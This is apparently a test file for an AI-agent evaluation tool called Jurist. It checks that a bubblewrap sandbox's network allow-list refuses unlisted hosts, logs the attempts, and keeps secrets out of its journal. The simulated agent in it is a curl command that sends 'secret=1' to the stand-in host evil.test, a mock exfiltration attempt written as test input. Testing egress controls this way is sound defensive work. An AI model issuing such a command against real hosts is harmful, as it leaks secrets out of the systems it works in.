import { readdirSync, readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { bubblewrapSandbox } from '@jurist/workspace'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { project } from '../../project.js'

const hasBubblewrap = await bubblewrapSandbox({ network: { allow: [] } })
  .probe()
  .then(() => true)
  .catch(() => false)

const server = createServer((_, response) => response.end('answer'))
let port = 0
beforeAll(async () => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  port = (server.address() as AddressInfo).port
})
afterAll(() => server.close())

/** Asks the model, and the internet for the answer. */
const agent = (times = 1) =>
  `curl -sS http://localhost:${port}/v1 > out; for i in $(seq ${times}); do curl -sS -m 5 https://evil.test/answer?secret=1; done; curl -sS -m 5 http://evil.test/answer?secret=1; true`
const config = (network: string, program: string, kind = 'bubblewrap') => ({
  'jurist.config.yaml': `experiments:
  e:
    dataset: [{ id: one, task: t }]
    agent: { command: [sh, -c, ${JSON.stringify(program)}] }
    jury: { judges: { out: { type: file-content, path: out, equals: answer }, visit: { type: command-succeeds, command: "curl -sS https://judge.test; true" } }, vote: consensus }
    sandbox: { ${kind}: { network: ${network} } }
`,
})
const journalOf = (directory: string) => {
  const files = readdirSync(directory, { recursive: true, encoding: 'utf8' }).filter((path) =>
    /journal.*\.jsonl$/.test(path),
  )
  const lines = files.flatMap((path) => readFileSync(join(directory, path), 'utf8').trim().split('\n'))
  return lines.map((line) => JSON.parse(line)).filter(({ name }) => name === 'network')
}

describe.skipIf(!hasBubblewrap)('a run with an allow-list (needs bubblewrap)', () => {
  test('reaches its model and nothing else, and shows what was asked for', async () => {
    using made = project(config(`{ allow: ["localhost:${port}"] }`, agent()))
    const { code, stdout } = await made.jurist('run')
    expect([code, stdout]).toEqual([0, expect.stringContaining('1 of 1 decided')])
    expect(stdout).toContain('Network    allowed localhost 1    refused evil.test 2 · judge.test 1')
    expect(stdout).toMatch(/show \S+ --network/)
    const shown = await made.jurist('show', 'latest', '--network')
    expect(shown.stdout).toMatch(/evil\.test +0 +2/)
    expect(shown.stdout).toContain('1 of 1 trials with refused attempts: one#1')
    const json = JSON.parse((await made.jurist('show', 'latest', '--network', '--json')).stdout)
    expect(json).toMatchObject({ hosts: [`localhost:${port}`], refusedIn: ['one#1'], trials: 1 })
    const events = journalOf(made.directory)
    const about = { type: 'custom', name: 'network', phase: 'agent' }
    expect(events).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          ...about,
          data: expect.objectContaining({
            host: 'localhost',
            port,
            address: '127.0.0.1',
            how: 'connect',
            outcome: 'allowed',
            reason: null,
          }),
        }),
        expect.objectContaining({
          ...about,
          data: expect.objectContaining({ host: 'evil.test', port: 443, outcome: 'refused', reason: 'not-listed' }),
        }),
        expect.objectContaining({
          ...about,
          data: expect.objectContaining({ host: 'evil.test', port: 80, how: 'http', method: 'GET', path: '/answer' }),
        }),
        expect.objectContaining({ ...about, phase: 'judge', data: expect.objectContaining({ host: 'judge.test' }) }),
      ]),
    )
    expect(JSON.stringify(events)).not.toContain('secret')
  })

  test('counts what is asked for more than a hundred times', async () => {
    using made = project(config(`{ allow: ["localhost:${port}"] }`, agent(130)))
    expect((await made.jurist('run')).stdout).toContain('evil.test 131')
    const events = journalOf(made.directory).filter(({ data }) => data.host === 'evil.test' && data.port === 443)
    expect(events).toHaveLength(101)
    expect(events.at(-1).data).toEqual({ host: 'evil.test', port: 443, outcome: 'refused', count: 30 })
  })

  test('has the list as a condition, and --allow-host adds to it', async () => {
    using made = project(config('{ allow: [b.test, a.test] }', agent()))
    const first = JSON.parse((await made.jurist('run', '--json')).stdout).results[0]
    expect(first.conditions.network).toEqual(['a.test', 'b.test'])
    expect(first.passCount).toBe(0)
    const second = JSON.parse((await made.jurist('run', '--json', '--allow-host', `localhost:${port}`)).stdout)
      .results[0]
    expect(second.conditions.network).toEqual(['a.test', 'b.test', `localhost:${port}`])
    expect(second.passCount).toBe(1)
    const compared = await made.jurist('compare', first.id, second.id)
    expect(`${compared.stdout}${compared.stderr}`).toContain('network')
    expect((await made.jurist('run', '--allow-host', 'https://x.test/y')).stderr).toContain('Write "x.test"')
  })

  test('says what a program that ignores the proxy cannot', async () => {
    using made = project(config('{ allow: [a.test] }', 'echo connect ENETUNREACH 140.82.121.3 >&2; exit 1'))
    const { stderr } = await made.jurist('run', '--reporter', 'plain')
    expect(stderr).toContain('The sandbox reaches only a.test, and programs that ignore HTTPS_PROXY')
  })

  test('is proved by doctor', async () => {
    using made = project(config('{ allow: [a.test] }', agent()))
    const { stdout } = await made.jurist('doctor', '--timeout', '10m')
    expect(stdout).toMatch(/egress +bubblewrap: allow-lists work/)
    expect(stdout).toMatch(/egress of e +allow-lists work/)
  })

  test('warns before the first trial that the model of a coding agent is closed', async () => {
    const files = (agent: string, allow: string) => ({
      'jurist.config.mjs': `import { copyWorkspaces } from 'jurist'
        import { claudeCommand } from 'jurist/claude-agent'
        import { codexCommand } from 'jurist/codex'
        import { bubblewrapSandbox } from 'jurist/workspace'
        export default { experiments: { e: {
          dataset: [{ id: 'one', task: 't' }], agent: ${agent}, jury: () => true,
          provision: copyWorkspaces({ sandbox: bubblewrapSandbox({ network: { allow: ${allow} } }) }),
        } } }`,
    })
    using made = project()
    const warned = async (agent: string, allow: string) => {
      made.write(files(agent, allow))
      return (await made.jurist('run', '--reporter', 'plain')).stderr
    }
    const claude = "claudeCommand({ command: ['true'] })"
    const own =
      "claudeCommand({ command: ['true'], environment: { set: { ANTHROPIC_BASE_URL: 'http://127.0.0.1:8123' } } })"
    const codex =
      "codexCommand({ command: ['true'], config: { model_provider: 'x', model_providers: { x: { base_url: 'https://models.test:8443/v1' } } } })"
    expect(await warned(claude, '[]')).toMatch(
      /claudeCommand asks its model at api\.anthropic\.com, .*--allow-host api\.anthropic\.com/s,
    )
    expect(await warned(own, "['api.anthropic.com']")).toContain('--allow-host localhost:8123')
    expect(await warned(codex, '[]')).toContain('--allow-host models.test:8443')
    for (const allow of ["['api.anthropic.com']", "['*.anthropic.com']"])
      expect(await warned(claude, allow)).not.toContain('asks its model')
    expect(await warned(own, "['localhost:8123']")).not.toContain('asks its model')
  })

  test('leaves nothing behind when Jurist is killed', async () => {
    const seconds = `31${process.pid}`
    using made = project(config('{ allow: [a.test] }', `echo begun; exec sleep ${seconds}`))
    const { child, ended } = made.start('run')
    const left = () =>
      readdirSync('/proc').filter((id) => {
        try {
          return /^\d+$/.test(id) && readFileSync(`/proc/${id}/cmdline`, 'utf8').includes(`sleep\0${seconds}`)
        } catch {
          return false
        }
      })
    await expect.poll(left, { timeout: 60_000 }).not.toEqual([])
    child.kill('SIGKILL')
    await ended
    await expect.poll(left, { timeout: 60_000 }).toEqual([])
  })

  test('refuses an agent of this process unless the list says so', async () => {
    const files = (network: string) => ({
      'jurist.config.mjs': `import { copyWorkspaces } from 'jurist'
        import { bubblewrapSandbox } from 'jurist/workspace'
        export default { experiments: { e: {
          dataset: [{ id: 'one', task: 't' }], agent: async () => 'done', jury: () => true,
          provision: copyWorkspaces({ sandbox: bubblewrapSandbox({ network: ${network} }) }),
        } } }`,
    })
    using made = project(files('{ allow: [] }'))
    const { code, stderr } = await made.jurist('run')
    expect([code, stderr]).toEqual([2, expect.stringMatching(/agent runs in this process.*unsandboxedAgent: true/s)])
    made.write(files('{ allow: [], unsandboxedAgent: true }'))
    const { results } = JSON.parse((await made.jurist('run', '--json')).stdout)
    expect(results[0].conditions.network).toEqual(['(the agent runs outside)'])
  })
})

test.each([
  ['none', 'has no allow-list of hosts'],
  ['{ bubblewrap: { network: none } }', 'has no allow-list of hosts'],
])('--allow-host without a list is refused: %s', async (sandbox, message) => {
  using made = project({
    'jurist.config.yaml': `experiments: { e: { dataset: [{ id: one, task: t }], agent: { command: ['true'] }, jury: { type: file-exists, path: x }, sandbox: ${sandbox} } }`,
  })
  const { code, stderr } = await made.jurist('run', '--allow-host', 'a.test')
  expect([code, stderr]).toEqual([2, expect.stringContaining(message)])
})

test('every entry that cannot be enforced is named before anything runs', async () => {
  using made = project(config('{ allow: [a.test, "*", "https://b.test/x", "*.com"] }', 'true'))
  const { code, stderr } = await made.jurist('run')
  expect(code).toBe(2)
  for (const entry of ['"*"', '"https://b.test/x"', '"*.com"']) expect(stderr).toContain(entry)
  expect(stderr).not.toContain('"a.test"')
})

test.each(['tcp://build.test:2376', 'ssh://me@build.test'])(
  'docker on another machine is refused: %s',
  async (daemon) => {
    using made = project(config('{ allow: [a.test] }, image: img', 'true', 'docker'))
    const { code, stderr } = await made.juristWith({ DOCKER_HOST: daemon }, 'run')
    expect([code, stderr]).toEqual([
      2,
      expect.stringMatching(/not available: its daemon is on another machine.*use bubblewrap/s),
    ])
  },
)
